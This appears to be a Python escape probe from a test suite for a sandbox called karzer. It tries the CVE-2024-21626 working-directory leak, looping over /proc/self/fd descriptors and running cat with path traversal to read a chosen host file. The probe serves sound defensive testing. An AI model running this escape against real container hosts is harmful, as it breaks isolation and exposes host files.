"""The cell's program, or its interpreter, is started in a working directory that
is a descriptor of the one who starts it: /proc/self/fd/N for each N
(CVE-2024-21626, the attack by WORKDIR).

Blocked by karzer having no option for a working directory but the workspace,
and by an agent that holds no directory of the host.
"""
import os
import subprocess
import sys

WANTS = None
BARE_CANNOT = "without karzer nobody starts a program for the attacker"
NEEDS = ("host_file",)

given = dict(word.split("=", 1) for word in sys.argv[1:])
for n in range(64):
    try:
        done = subprocess.run(
            ["cat", f"../../../../../../../../..{given['host_file']}"],
            cwd=f"/proc/self/fd/{n}", capture_output=True, check=False)
    except OSError:
        continue
    if done.stdout:
        print("ESCAPED: by fd", n, done.stdout)
        break
else:
    print("refused: no descriptor is a directory of the host")
